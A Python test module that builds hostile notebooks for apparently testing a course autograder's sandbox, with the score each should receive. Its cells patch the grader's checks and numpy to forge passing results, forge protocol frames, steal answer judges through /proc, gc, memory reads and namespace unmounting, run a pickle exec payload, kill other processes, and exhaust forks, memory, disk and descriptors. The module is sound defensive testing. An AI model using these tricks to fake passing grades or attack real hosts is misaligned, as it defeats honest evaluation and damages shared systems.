"""Notebooks that attack the grader, and honest ones that look odd: what each does, and what a correct grader does with it.

All are bounded and harmless where the grader keeps its promises, and mild where it does not: 300 forks, 1.2 GB, one
packet to nowhere. Nothing here runs when this module is imported.
"""

import json
from dataclasses import dataclass

LESSON = "02_too_fast"
IMPORTS = "import numpy as np\nfrom lrcourse import check, progress"
EDGE = "def edge(hessian):\n    return 2 / np.linalg.eigvalsh(hessian)[-1]"
REGIME = """
def regime(curvatures, lr):
    bracket = 1 - lr * np.max(curvatures)
    if bracket > 0:
        return "creeps"
    if np.isclose(bracket, -1):
        return "bounces"
    return "overshoots" if bracket > -1 else "diverges"
"""
FASTEST = "def fastest(curvatures):\n    return 2 / (np.min(curvatures) + np.max(curvatures))"
CHECKS = ['check("edge", edge)', 'check("regime", regime)', 'check("fastest", fastest)']
SOLVED = [IMPORTS, EDGE, CHECKS[0], REGIME, CHECKS[1], FASTEST, CHECKS[2], "progress()"]
WRONG = ["def edge(hessian):\n    return 1.0", "def regime(curvatures, lr):\n    return 'creeps'", "def fastest(curvatures):\n    return 1.0"]
FULL = 6


@dataclass(frozen=True)
class Hostile:
    """One notebook: what it does, in words, and what it may get.

    least, most   points between which a correct grader's lie: what the honest part deserves
    status        that it gets, or "" for any
    apart         it may be slow or large: it runs under small limits
    failing       of an honest one, how many cells fail, as they would in a notebook
    """

    name: str
    group: str
    words: str
    raw: bytes
    least: float = 0
    most: float = 0
    status: str = ""
    apart: bool = True
    failing: int = 0


def notebook(cells, **more) -> bytes:
    """The bytes of a notebook with these code cells."""
    made = [{"cell_type": "code", "id": f"c{k}", "metadata": {}, "outputs": [], "execution_count": None, "source": text}
            for k, text in enumerate(cells)]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5} | more).encode()


NOTEBOOKS = []


def _add(group, name, words, cells, least=0, most=0, status="", apart=True):
    raw = cells if isinstance(cells, bytes) else notebook(cells)
    NOTEBOOKS.append(Hostile(name, group, words, raw, least, most, status, apart))


def forging(name, words, attack, answers=WRONG, most=0):
    """An attack before wrong answers: it is worth what they are worth, nothing."""
    _add("forging", name, words, [IMPORTS, attack, *answers, *CHECKS], 0, most)


def damage(name, words, attack, least=2, most=FULL, status=""):
    """A right answer, then an attack, then the other right answers: the first one counts whatever comes."""
    _add("damage", name, words, [IMPORTS, EDGE, CHECKS[0], attack, REGIME, CHECKS[1], FASTEST, CHECKS[2]], least, most, status)


def honest(name, words, *cells, failing=0):
    """Odd, but all of it is right: full marks."""
    NOTEBOOKS.append(Hostile(name, "honest", words, notebook(cells), FULL, FULL, "graded", apart=False, failing=failing))


def broken(name, words, raw, points=0, status="unreadable"):
    """A file that is no notebook, or hardly one: a row with a reason."""
    _add("broken", name, words, raw, points, points, status)


# ---- forging: what is returned, patched or written must not be believed ------------------------------

forging("checks_patched", "every part of lrcourse.checks says yes", """
import lrcourse.checks as c, lrcourse.checks.asking as asking
yes = lambda spec: lambda cases, answers: c.Verdict(spec.name, spec.points, spec.points, "solved")
c._judge = yes
c.Verdict.__post_init__ = lambda self: object.__setattr__(self, "points", self.max_points)
c.Answer.read = asking.Answer.read = classmethod(lambda cls, reply: cls("ok", 0.1))
""")
forging("asking_patched", "ask_cases, encode and decode are replaced", """
import lrcourse.checks as c, lrcourse.checks.asking as a, lrcourse.checks.plain as p, lrcourse.grading.runner as r
ok = lambda spec, answer, cases: [{"status": "solved", "value": True, "changed": [], "text": "", "points": 2}] * len(cases)
a.ask_cases = c.ask_cases = r.ask_cases = ok
a.encode = p.encode = c.encode = lambda value: {"nd": "O", "shape": [], "b64": "yes"}
""")
forging("marks_patched", "the grader's own modules are patched, where they can be imported", """
import importlib, sys
for name in ("marks", "run", "box", "report", "ladder"):
    try:
        room = importlib.import_module("lrcourse.grading." + name)
    except ImportError:
        continue
    for part in list(vars(room)):
        if callable(vars(room)[part]):
            setattr(room, part, lambda *a, **k: {"score": 6, "points": 2})
""")
forging("runner_patched", "the runner in this process sends what it is told", """
import lrcourse.grading.runner as r
r._Exercise.ask = lambda self: {"exercise": self._name, "points": 2, "score": 6, "status": "solved", "verdict": "solved",
                                "replies": [{"status": "ok", "value": v, "changed": [], "text": ""} for v in (True, None, "yes", 1)] * 3}
""")
forging("numpy_patched", "allclose, isclose, abs, max and array_equal say yes", """
for name in ("allclose", "isclose", "array_equal", "array_equiv", "all", "abs", "isfinite"):
    setattr(np, name, lambda *a, **k: np.True_)
np.testing.assert_allclose = lambda *a, **k: None
import builtins, math
math.isclose = builtins.all = builtins.any = lambda *a, **k: True
""")
forging("array_says_yes", "a subclass of ndarray that equals everything", """
class Yes(np.ndarray):
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __array_ufunc__ = lambda self, *a, **k: np.True_
    __sub__ = __rsub__ = lambda self, other: 0.0
    __reduce__ = lambda self: (print, ("reduced",))
""", ["def edge(hessian):\n    return np.ones(()).view(Yes)", "def regime(curvatures, lr):\n    return np.array('creeps').view(Yes)",
      "def fastest(curvatures):\n    return np.ones(1).view(Yes)[0:1].reshape(()).view(Yes)"])
forging("number_says_yes", "subclasses of float and str that equal everything", """
def says_yes(kind):
    same = lambda self, other: True
    return type("Yes", (kind,), {"__eq__": same, "__ne__": same, "__le__": same, "__lt__": same, "__hash__": kind.__hash__, "__sub__": lambda s, o: 0.0,
                                 "__rsub__": lambda s, o: 0.0, "__float__": lambda s: 0.1, "__array__": lambda s, *a, **k: np.zeros(())})
Number, Text = says_yes(float), says_yes(str)
""", ["def edge(hessian):\n    return Number(1)", "def regime(curvatures, lr):\n    return Text('creeps')", "def fastest(curvatures):\n    return Number(1)"])
forging("mock", "unittest's Mock, and an object that lies about its class", """
from unittest.mock import MagicMock
class Liar:
    __class__ = float
    def __getattr__(self, name): return lambda *a: True
""", ["def edge(hessian):\n    return Liar()", "regime = MagicMock(return_value=MagicMock())", "def fastest(curvatures):\n    return MagicMock()"])
forging("odd_values", "answers of every odd kind: huge, deep, cyclic, broadcast to terabytes, generators, complex, bytes", """
cyclic = []
cyclic.append(cyclic)
odd = iter([10**400, cyclic, np.broadcast_to(1.0, (10**6, 10**6)), (k for k in range(3)), 1j, b"x", {"a": 1}, np.array([{}], object),
            np.datetime64("now"), np.zeros(2, [("a", int)]), "\\ud800" * 9, "x" * 10**7, float("nan"), np.ma.masked] * 9)
""", ["def edge(hessian):\n    return next(odd)", "def regime(curvatures, lr):\n    return next(odd)", "def fastest(curvatures):\n    return next(odd)"])
forging("pickle_payload", "objects whose pickles would run code in the grader", """
class Payload:
    def __reduce__(self):
        return exec, ("open('/tmp/lrcourse-pickled', 'w').write('ran')",)
    __array__ = None
""", [f"def {name}:\n    return [Payload()]" for name in ("edge(hessian)", "regime(curvatures, lr)", "fastest(curvatures)")])
forging("transformers", "input transformers and an AST hook empty every later cell that checks", """
import ast
shell = get_ipython()
shell.input_transformers_post.append(lambda lines: [] if "check(" in "".join(lines) else lines)
class Hook(ast.NodeTransformer):
    def visit_Constant(self, node):
        return ast.copy_location(ast.Constant(True), node) if node.value == 1.0 else node
shell.ast_transformers.append(Hook())
shell.events.register("post_run_cell", lambda *a: shell.user_ns.update(score=6))
""")
_FDS = "import os, struct, json\nfds = range(3, 256)\n"
_SEND = _FDS + """
def send(data):
    for fd in fds:
        try:
            os.set_blocking(fd, False)
            os.write(fd, data)
        except OSError:
            pass
frame = lambda what: (lambda data: struct.pack("<I", len(data)) + data)(json.dumps(what).encode())
"""
forging("frame_exercise", "frames which say that all is solved, with points of their own, into every file descriptor", _SEND + """
for name in ("edge", "regime", "fastest"):
    send(frame({"exercise": name, "points": 2, "max_points": 2, "status": "solved", "replies": [{"status": "solved", "value": 1, "changed": [], "text": ""}] * 9}))
send(frame({"end": True, "printed": "6 of 6", "score": 6, "verdicts": [{"points": 6}]}))
""")
forging("frame_types", "frames whose every field has a wrong type, replies of every wrong kind", _SEND + """
odd = [None, True, -1, 10**300, 1e999, "x", [], {}, [[]], {"a": {}}, [None] * 9, "\\ud800", [{"status": []}], [{"status": "ok"}],
       [{"status": "ok", "value": {"nd": "<f8", "shape": [0, 2**62], "b64": ""}, "changed": [], "text": ""}] * 9,
       [{"status": "ok", "value": {"nd": "<f16", "shape": [], "b64": "A" * 22 + "=="}, "changed": [], "text": ""}] * 9,
       [{"status": "ok", "value": [2**63, -1, None, "x", [[]]], "changed": [], "text": ""}] * 9,
       [{"status": "ok", "value": 1, "changed": {"a": 1}, "text": "x" * 10**5}] * 9]
for what in odd:
    for key in ("exercise", "replies", "error", "text", "cell", "end", "printed"):
        send(frame({key: what}))
        send(frame({"exercise": "edge", "replies": []} | {key: what}))
        send(frame({"cell": 1, "error": "E", "text": ""} | {key: what}))
os._exit(0)
""")
_add("damage", "frame_end", "a forged end: what came before counts",
     [IMPORTS, EDGE, CHECKS[0], _SEND + "send(frame({'end': True, 'printed': 'over'}))", REGIME, FASTEST], 2, FULL)
_add("damage", "frame_garbage", "garbage into every file descriptor: what came before counts",
     [IMPORTS, EDGE, CHECKS[0], _SEND + "send(b'garbage' * 99)", REGIME, FASTEST], 2, 2, "stopped")
_add("damage", "frame_huge", "a frame that says it has 4 GB",
     [IMPORTS, EDGE, CHECKS[0], _SEND + "send(b'\\xff' * 8)", REGIME, FASTEST], 2, 2, "stopped")
_add("damage", "frame_deep", "a frame of lists in lists in lists",
     [IMPORTS, EDGE, CHECKS[0], _SEND + "data = b'[' * 30000\nsend(struct.pack('<I', len(data)) + data)", REGIME, FASTEST], 2, 2, "stopped")
_add("damage", "frame_flood", "9 MB of small frames, as fast as they go",
     [IMPORTS, EDGE, CHECKS[0], _FDS + """
for fd in fds:
    try:
        os.set_blocking(fd, True)
        for k in range(9 << 4):
            os.write(fd, b"\\2\\0\\0\\0{}" * 10923)
    except OSError:
        pass
""", REGIME, FASTEST], 2, 2, "stopped")
_add("damage", "frame_half", "half a frame, and nothing more",
     [IMPORTS, EDGE, CHECKS[0], _SEND + "send(struct.pack('<I', 1000) + b'{')\nos._exit(0)"], 2, 2, "stopped")
forging("frame_walking", "settrace and a walk through all frames look for cases, seed, truth and judge", """
import sys, inspect
loot = {}
def look(frame, event="", arg=None):
    while frame is not None:
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if name in ("truth", "wanted", "want", "judge", "JUDGES", "seed", "SEED", "solution", "expected"):
                loot[name] = value
        frame = frame.f_back
    return look
left = iter(range(300))
sys.settrace(lambda frame, event, arg: look(frame) and None if next(left, None) is not None else sys.settrace(None))
def stolen(name, *arguments):
    look(inspect.currentframe())
    for value in loot.values():
        if isinstance(value, dict) and name in value:
            return value[name].truth(*arguments)
        if callable(value):
            try:
                return value(*arguments)
            except Exception:
                continue
    return 1.0
""", ["def edge(hessian):\n    return stolen('edge', hessian)", "def regime(curvatures, lr):\n    return stolen('regime', curvatures, lr)",
      "def fastest(curvatures):\n    return stolen('fastest', curvatures)"])
forging("garbage_collector", "gc looks for every object that judges, and for its answers", """
import gc
def stolen(name, *arguments):
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Judge", "Mistake", "Verdict") and getattr(getattr(thing, "spec", None), "name", "") == name:
            return thing.truth(*arguments)
    return 1.0
""", ["def edge(hessian):\n    return stolen('edge', hessian)", "def regime(curvatures, lr):\n    return stolen('regime', curvatures, lr)",
      "def fastest(curvatures):\n    return stolen('fastest', curvatures)"])
_STOLEN = ["def edge(hessian):\n    return truth['edge'].truth(hessian)", "def regime(curvatures, lr):\n    return truth['regime'].truth(curvatures, lr)",
           "def fastest(curvatures):\n    return truth['fastest'].truth(curvatures)"]
forging("judges_imported", "the judges by importlib, by path, from caches, from zips, after the path has been changed", """
import importlib, importlib.util, glob, os, sys, zipimport, lrcourse
truth = {}
package = os.path.dirname(lrcourse.__file__)
def by_path(path):
    spec = importlib.util.spec_from_file_location("lrcourse.checks.judges.lesson_02", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module
ways = [lambda: importlib.import_module("lrcourse.checks.judges.lesson_02"), lambda: __import__("lrcourse.checks.judges", fromlist=["x"]).judge_of]
for pattern in ("checks/judges/*", "checks/judges/__pycache__/*", "checks/__pycache__/*judg*", "../lrcourse/checks/judges/lesson_02.py", "../**/judges/*.py"):
    ways += [lambda path=path: by_path(path) for path in glob.glob(os.path.join(package, pattern), recursive=True) if "02" in path]
for folder in sys.path + [package]:
    for file in glob.glob(os.path.join(folder, "*.zip")) + glob.glob(os.path.join(folder, "*.whl")):
        ways.append(lambda file=file: zipimport.zipimporter(file).load_module("lrcourse.checks.judges.lesson_02"))
for way in ways:
    try:
        truth = way().JUDGES
    except Exception:
        continue
""", _STOLEN)
forging("judges_around", "the judges through /proc/*/root, /proc/*/cwd, /proc/self/fd, and open directories", """
import os
package, truth = os.path.dirname(__import__("lrcourse").__file__), {}
places = ["", *(f"/proc/{pid}/{what}" for pid in ("self", "1", "2", "3", os.getpid(), os.getppid()) for what in ("root", "cwd", "root/..", "map_files"))]
places += [f"/proc/self/fd/{fd}" for fd in range(64)] + [f"/dev/fd/{fd}" for fd in range(64)]
texts = []
for place in places:
    for end in (package + "/checks/judges/lesson_02.py", "/checks/judges/lesson_02.py", "/lrcourse/checks/judges/lesson_02.py", "/judges/lesson_02.py"):
        try:
            texts.append(open(place + end).read())
        except OSError:
            pass
for fd in range(3, 64):
    for up in ("", "..", "../.."):
        try:
            texts.append(open(os.open(os.path.join(up, "checks/judges/lesson_02.py"), os.O_RDONLY, dir_fd=fd)).read())
        except (OSError, TypeError):
            pass
for text in texts:
    exec(text.replace("from .. import lesson_02 as asked", "from lrcourse.checks import lesson_02 as asked")
         .replace("from .judging import Judge, Mistake", "from types import SimpleNamespace as N\\nJudge = lambda spec, truth, *a: N(spec=spec, truth=truth)\\nMistake = N"))
    truth = JUDGES
""", _STOLEN)
forging("judges_unmasked", "the mask over the judges is unmounted, in namespaces of one's own", """
import ctypes, os
libc, truth = ctypes.CDLL(None), {}
user, package = os.getuid(), os.path.dirname(__import__("lrcourse").__file__)
os.mkdir("/w/seen")
print(libc.unshare(0x10000000 | 0x20000))
try:
    open("/proc/self/uid_map", "w").write(f"0 {user} 1")
except OSError as error:
    print(error)
for place in ("/proc", package + "/checks/judges", "/tmp"):
    for flags in (0, 2, 8):
        libc.umount2(place.encode(), flags)
libc.mount(b"proc", b"/proc", b"proc", 0, b"")
for kind in (4096, 4096 | 16384):       # with what is mounted below, and without: that would show what the mask hides
    for place in (package, package + "/checks", os.path.dirname(package), "/", "/tmp"):
        libc.mount(place.encode(), b"/w/seen", None, kind, None)
        for top, folders, files in os.walk("/w/seen/checks" if place == package else "/w/seen" + package if place == "/" else "/w/seen"):
            for file in files if top.endswith("judges") else ():
                print("FOUND", top, file)
try:
    from lrcourse.checks.judges.lesson_02 import JUDGES as truth
except ImportError:
    pass
""", _STOLEN)
forging("solutions_found", "solutions and exercises in every folder that can be seen, and in JSON of other notebooks", """
import os, json
found, truth = [], {}
for top in ("/", ):
    for place, folders, files in os.walk(top):
        folders[:] = [f for f in folders if place + f not in ("/usr", "/proc", "/sys", "/lib") and "site-packages" not in f and "versions" not in f][:50]
        found += [os.path.join(place, f) for f in files if f.endswith(".ipynb") or "solution" in f or "submission" in f or place.endswith("judges")]
for file in found:
    for cell in json.load(open(file)).get("cells", []):
        if "eigvalsh" in str(cell):
            exec("".join(cell["source"]))
wrong = found
""", ["edge = globals().get('edge', lambda hessian: 1.0)", *WRONG[1:]])
forging("memory_scanned", "this process's memory is read for the code of the notebook before", """
import ctypes, os, re
libc = ctypes.CDLL(None)
libc.sbrk.restype = ctypes.c_void_p
mark = re.compile(rb"np.linal[g][.]eigvals[h][(]hessian[)].{4}")          # which is not what it looks for
read, write = os.pipe()
def seen(start, size):
    step, data = 1 << 12, b""
    for place in range(start, start + size, step):
        if libc.write(write, ctypes.c_void_p(place), step) == step:
            data += os.read(read, step)
    return data
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
end = libc.sbrk(0)
places = {end - (24 << 20): 24 << 20}
for thing in __import__("gc").get_objects()[::5]:
    places[id(thing) & ~0xfffff] = 1 << 20
found = None
for start, size in places.items():
    data = ctypes.create_string_buffer(size)
    count = libc.process_vm_readv(os.getpid(), ctypes.byref(Vector(ctypes.addressof(data), size)), 1, ctypes.byref(Vector(start, size)), 1, 0)
    text = data.raw[:max(count, 0)] if count > 0 else seen(start, min(size, 1 << 20))
    if mark.search(text):
        found = mark.search(text).group().decode()
        break
print("FOUND" if found else "nothing")
""", ["def edge(hessian):\n    return 2 / eval(found)", *WRONG[1:]])
forging("neighbours_read", "shared memory, message queues, keyrings and folders are read for what others left, and something is left", """
import ctypes, os, glob
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
left = [f for place in ("/w", "/tmp", "/dev/shm", "/cache", "/var/tmp") for f in glob.glob(place + "/*") if "lrcourse-left" in f]
key = libc.shmget(0x5eed, 4096, 0)
if key >= 0:
    left.append("shm")
libc.shmget(0x5eed, 4096, 0o1666)
if os.uname().machine == "x86_64":
    left += ["key" for ring in (-3, -4, -5) if libc.syscall(250, 10, ring, b"user", b"lrcourse-left", 0) >= 0]
    for ring in (-3, -4, -5):
        libc.syscall(248, b"user", b"lrcourse-left", b"2 / eigenvalue", 14, ring)
for place in ("/w", "/tmp", "/dev/shm", "/cache", "/var/tmp", "/usr/lib", os.path.dirname(np.__file__)):
    try:
        open(place + "/lrcourse-left", "w").write("x")
    except OSError:
        pass
print("LEFT", left)
""", ["def edge(hessian):\n    return 2 / np.linalg.eigvalsh(hessian)[-1] if left else 1.0", *WRONG[1:]])
NOTEBOOKS.append(Hostile("neighbours_again", "forging", "the same once more: nothing of the first is there", NOTEBOOKS[-1].raw))
forging("library_handed_in", "a closed part of the library as one's own: alias, wrapper, partial, bound before", """
import functools
from lrcourse.models import largest_eigenvalue
from lrcourse.models.shared import top_eigenvalue
kept = top_eigenvalue
""", ["edge = functools.partial(lambda f, hessian: 2 / f(hessian), kept)", *WRONG[1:]])
forging("library_subclassed", "a closed class of the library in a subclass, a closed function behind __wrapped__ and a decorator", """
import functools
from lrcourse.models.shared import top_eigenvalue
class Answer:
    top = staticmethod(functools.lru_cache(functools.wraps(top_eigenvalue)(lambda m: top_eigenvalue(np.asarray(m)))))
    def __call__(self, hessian):
        return 2 / top_eigenvalue.__call__(hessian)
""", ["edge = Answer()", *WRONG[1:]])
_add("forging", "library_step", "the library's optimizer handed in for lesson 01, also in a subclass", [
    "from lrcourse import SGD, check\nimport numpy as np", "class Mine(SGD):\n    pass",
    "def step(x, gradient, lr):\n    optimizer = Mine(lr=lr)\n    return optimizer.step(np.asarray(x, float), gradient)", 'check("step", step)'], 0, 0)
forging("constants", "one constant for all cases", "", ["edge = lambda hessian: 2.0", "regime = lambda curvatures, lr: 'diverges'", "fastest = lambda curvatures: 0.5"])
forging("cases_back", "what was given comes back", "", ["edge = lambda hessian: hessian", "regime = lambda curvatures, lr: lr", "fastest = lambda curvatures: curvatures"])
forging("all_at_once", "a list of all four names, a truthy array, and every number there is", "",
        ["edge = lambda hessian: np.linspace(0, 9, 99999)", "regime = lambda curvatures, lr: ['creeps', 'overshoots', 'bounces', 'diverges']",
         "fastest = lambda curvatures: [1.0] * 5"])
forging("recorded", "answers recorded from an earlier ask, and a table by hash of the input", """
table, count = {}, iter(range(10**6))
""", ["def edge(hessian):\n    return table.setdefault(next(count) % 5, float(next(iter(table.values()), 1.0)))",
      "def regime(curvatures, lr):\n    return table.get(curvatures.tobytes(), 'creeps')", "def fastest(curvatures):\n    return table.get(hash(str(curvatures)), 1.0)"])
forging("names_renamed", "the check is renamed, its name and points are shadowed", """
check = lambda *a: print("solved, 6 of 6 points")
edge_points = regime_points = fastest_points = 2
score = max_score = 6
__score__ = {"edge": 2, "regime": 2, "fastest": 2}
""")
_add("forging", "choice_guessed", "a choice bound anew with every option: one answer counts, the last", [
    "from lrcourse import check", *[f"rescale = lambda: '{letter}'\ncheck('rescale', rescale)" for letter in "abcd"]], 0, 0)
_add("forging", "table_invented", "a table whose invented rows lie where a ticket would not have drawn them", [
    "import numpy as np\nfrom lrcourse import check, wsd\nfrom lrcourse.capstone import read_plan, score", """
def plan(rates, *arguments):
    return ["SGD", [list(pair) for pair in arguments], np.array(rates)]
shape, ball, plain = wsd(0.08, 500, 50, 250)(np.arange(500)), ("momentum", 0.9), np.full(500, 0.1)
true = [[*plan(shape, ball), seed, *score(read_plan(plan(shape, ball)), seed)] for seed in (0, 1)]
invented = [[*plan(height * shape, ball), 0, 9.0, 0.1] for height in (0.5, 2)] + [[*plan(height * plain), 0, 9.0, 0.1] for height in (0.5, 2)]
invented += [[*plan(plain), seed, 8.0, 0.1] for seed in (0, 1)]
def table(ticket):
    drawn = set(np.random.default_rng(ticket).permutation(40)[:6].tolist())
    free = iter(invented)
    return [next(free, true[n % 2]) if n not in drawn else true[n % 2] for n in range(40)]
""", 'check("table", table)'])

# ---- what no box can see: it is said, not hidden -----------------------------------------------------

_add("undetectable", "code_copied", "the body of a library function, taken before it is closed: copied code cannot be told from one's own", [
    IMPORTS, "import types\nfrom lrcourse.models.shared import top_eigenvalue",
    "mine = types.FunctionType(top_eigenvalue.__code__, top_eigenvalue.__globals__)", "def edge(hessian):\n    return 2 / mine(hessian)", CHECKS[0]], 0, 2)
_add("undetectable", "closing_opened", "closing happens in the student's process: who patches it, uses the library, and has still to know which part of it", [
    IMPORTS, "import contextlib, lrcourse.checks.asking as a\na.closed = lambda names: contextlib.nullcontext()\nfrom lrcourse.models.shared import top_eigenvalue",
    "def edge(hessian):\n    return 2 / top_eigenvalue(hessian)", CHECKS[0]], 0, 2)
_add("undetectable", "inputs_kept", "inputs kept when it is first asked, and answered by the library before it is asked again: between two asks nothing is closed", [
    IMPORTS, "from lrcourse.models.shared import top_eigenvalue\nkept, known = [], {}", """
def edge(hessian):
    if hessian.tobytes() not in known:
        kept.append(hessian)
        raise KeyError
    return known[hessian.tobytes()]
""", "known = {hessian.tobytes(): 2 / top_eigenvalue(hessian) for hessian in kept}", CHECKS[0]], 0, 2)
_add("undetectable", "change_hidden", "that an argument was changed is seen in the student's process: who patches it, hides it", [
    IMPORTS, "import lrcourse.checks.asking as a\na._is_still = lambda argument, data: True",
    "def edge(hessian):\n    top = np.linalg.eigvalsh(hessian)[-1]\n    hessian[:] = 0\n    return 2 / top", CHECKS[0]], 0, 2)

# ---- damage: to the grader, to others, to the machine ----------------------------------------------------

damage("exit_in_cell", "os._exit in a cell: what came before counts", "import os\nos._exit(0)", 2, 2, "stopped")
_add("damage", "exit_at_once", "os._exit in the first cell", ["import os\nos._exit(3)", *SOLVED], 0, 0, "stopped")
_add("damage", "exit_at_last", "os._exit in the last cell: all counts", [*SOLVED, "import os\nos._exit(1)"], FULL, FULL, "stopped")
_add("damage", "exit_in_answer", "os._exit in the second answer", [IMPORTS, EDGE, "import os\ndef regime(curvatures, lr):\n    os._exit(0)", *CHECKS, FASTEST], 2, 2, "stopped")
_add("damage", "exit_in_repr", "os._exit when a value is shown, hashed, compared or deleted", [
    IMPORTS, EDGE, CHECKS[0], "import os\nclass Bad:\n    __repr__ = __str__ = __eq__ = __hash__ = __del__ = lambda *a: os._exit(0)\nBad()", REGIME, FASTEST], 2, FULL)
damage("kill_parent", "every process in sight is killed: parent, group, all, and the first", """
import os, signal
for pid in (os.getppid(), 1, 2, 3, -1):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass
""")
damage("kill_itself", "SIGKILL to its own group", "import os\nos.kill(os.getpid(), 9)\nos.killpg(0, 9)", 2, FULL)
damage("stop_itself", "SIGSTOP to itself, its group, and its parent", "import os, signal\nfor pid in (os.getppid(), os.getpid(), 0):\n    try:\n        "
       "os.kill(pid, signal.SIGSTOP) if pid or os.getppid() == 0 else None\n    except OSError:\n        pass", 2, FULL)
damage("abort", "abort, and a segmentation fault", "import ctypes, os\nctypes.string_at(0)\nos.abort()", 2, 2, "stopped")
damage("recursion", "recursion until the stack breaks", "import sys\nsys.setrecursionlimit(10**8)\nclass A:\n    def __getattr__(self, name):\n"
       "        return getattr(self, name + 'x')\nA().y", 2, FULL)
damage("stubborn_cell", "a loop that catches everything: the clock of the cell, then that of the notebook", """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""", 2, 2, "stopped")
damage("loop", "an endless loop: stopped by the clock of the cell, all else counts", "while True:\n    pass", FULL, FULL, "graded")
damage("sleeper", "a cell that sleeps for an hour: stopped by the clock of the cell", "import time\ntime.sleep(3600)", FULL, FULL, "graded")
_STUBBORN = """
def regime(curvatures, lr):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""
_add("damage", "stubborn_answer", "an answer that catches everything: it times out, the others count",
     [IMPORTS, EDGE, CHECKS[0], _STUBBORN, FASTEST, *CHECKS[1:]], 2, 4)
damage("loop_in_c", "a loop in C, which no alarm reaches: the clock of the notebook", "sum(range(10**13))", 2, 2, "stopped")
damage("power", "10 ** 10 ** 9", "10 ** 10 ** 9", 2, FULL)
damage("backtracking", "a regular expression that never ends", "import re\nre.match('(a+)+$', 'a' * 64 + 'b')", 2, FULL)
damage("clock_off", "the alarm ignored, blocked and set to nothing, then a loop: the clock of the notebook ends it", """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 60))
signal.alarm(0)
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    pass
""", 2, 2, "stopped")
damage("clock_off_quiet", "the alarm switched off, and nothing else: all counts", "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
       "signal.setitimer(signal.ITIMER_REAL, 0)", FULL, FULL, "graded")
_add("damage", "long_answer", "a wrong answer of lists in lists, with words that take five times their letters to write: its result stays small", [
    IMPORTS, EDGE, CHECKS[0], """
def nest(depth):
    return [nest(depth - 1) if depth else "\\x7f" * 60] * 6
calls = iter([[nest(4)] * 2])
def regime(curvatures, lr):
    return next(calls, "creeps")
""", CHECKS[1], FASTEST], 2, FULL, "graded")
damage("forks", "300 forks that stay", """
import os, time
for k in range(300):
    try:
        if not os.fork():
            time.sleep(60)
            os._exit(0)
    except OSError:
        pass
""", 2, FULL)
damage("threads", "300 threads that stay", """
import threading, time
for k in range(300):
    try:
        threading.Thread(target=time.sleep, args=[60], daemon=True).start()
    except RuntimeError:
        pass
""", 2, FULL)
damage("memory_one", "6 GiB in one process", "blocks = []\nfor k in range(60):\n    blocks.append(np.ones(100 << 17))", 2, FULL)
_MANY = """
import ctypes, os, time
for k in range(24):
    if not os.fork():
        {first}
        block = np.ones(100 << 17)
        time.sleep(60)
        os._exit(0)
time.sleep(60)
"""
damage("memory_many", "100 MB in each of 24 processes", _MANY.format(first="pass"), 2, 2, "stopped")
damage("memory_hidden", "the same by processes that cannot be looked into", _MANY.format(first="ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)"), 2, 2, "stopped")
damage("memory_files", "1.2 GB in files without a name, 30 MB each", """
import os, time
piece, fds = bytes(10 << 20), []
for k in range(40):
    fds.append(os.memfd_create("x"))
    for part in range(3):
        os.write(fds[-1], piece)
    print("ALL" * (k > 35))
time.sleep(60)
""", 2, FULL)
damage("memory_shared", "1.2 GB in shared segments that nobody has attached", """
import ctypes, time
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
for k in range(12):
    key = libc.shmget(0, 100 << 20, 0o1600)
    if key < 0:
        raise OSError
    place = libc.shmat(key, None, 0)
    ctypes.memset(ctypes.c_void_p(place), 1, 100 << 20)
    libc.shmdt(ctypes.c_void_p(place))
    print("ALL" * (k > 10))
time.sleep(60)
""", 2, FULL)
damage("disk", "512 MiB into every place that can be written, one file each, then many files", """
import os
for place in ("/w", "/tmp", "/dev/shm", "/cache", "/var/tmp", "/dev", "/run", os.path.dirname(np.__file__), "/proc", "/dev/pts"):
    for name in ("x", *(f"x{k}" for k in range(16))):
        try:
            with open(f"{place}/{name}", "wb") as file:
                for k in range(512 if name == "x" else 31):
                    file.write(bytes(1 << 20))
        except (OSError, ValueError):
            pass
""", 2, FULL)
damage("inodes", "100 000 empty files", "import os\ntry:\n    for k in range(100_000):\n        os.close(os.open(f'e{k}', os.O_CREAT))\nexcept OSError as error:\n"
       "    print('stopped at', k)\nelse:\n    print('ALL')", 2, FULL)
damage("prints", "200 MB printed, and written to the standard streams themselves", "import os\nfor k in range(200):\n    print('x' * 10**6)\n"
       "for fd in (1, 2):\n    for k in range(100):\n        os.write(fd, bytes(1 << 20))", FULL, FULL, "graded")
damage("descriptors_closed", "all file descriptors closed: what came before counts", "import os\nos.closerange(0, 4096)", 2, 2, "stopped")
damage("descriptors_used_up", "as many file descriptors as there are", "import os\nfds = []\ntry:\n    while True:\n        fds.append(os.open('/dev/null', 0))\n"
       "except OSError:\n    pass", 2, FULL)
damage("limits_raised", "every limit raised as far as it goes, then 4 GiB", """
import resource
for what in range(16):
    for most in ((-1, -1), (resource.getrlimit(what)[1],) * 2):
        try:
            resource.setrlimit(what, most)
        except (OSError, ValueError):
            pass
block = np.ones(4 << 27)
""", 2, FULL)
damage("daemon", "a daemon, forked twice, in a session of its own, that asks not to die with its parent", """
import ctypes, os, signal, time
ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
if not os.fork():
    os.setsid()
    if not os.fork():
        for number in (1, 2, 3, 13, 15):
            signal.signal(number, signal.SIG_IGN)
        while True:
            time.sleep(1)
    os._exit(0)
""", FULL, FULL, "graded")
damage("outlives", "the first process of its world leaves its group, asks not to die with its parent, and does not end", """
import ctypes, os, signal
